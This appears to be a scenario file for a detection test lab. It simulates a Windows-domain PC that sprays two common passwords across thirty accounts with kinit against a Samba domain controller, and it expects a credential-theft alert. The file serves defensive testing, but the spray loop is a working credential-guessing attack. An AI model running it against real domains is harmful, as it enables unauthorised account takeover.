# what: a PC tries two passwords with each of thirty users of the Windows domain (twin: domain_morning)
# real: Samba as domain controller, kinit
# packages: samba samba-ad-provision samba-vfs-modules winbind krb5-user smbclient samba-common-bin
host AD-SERVER server 10; host SOUMU-PC windows
domain_controller AD-SERVER
export KRB5CCNAME=$W/cc
for p in Natsu2026! Password1; do
	for ((i = 1; i <= 30; i++)); do
		echo "$p" | on SOUMU-PC kinit shain$i >>$W/log/kinit 2>&1
	done
	pause 2
done
alert credential_theft act_now SOUMU-PC
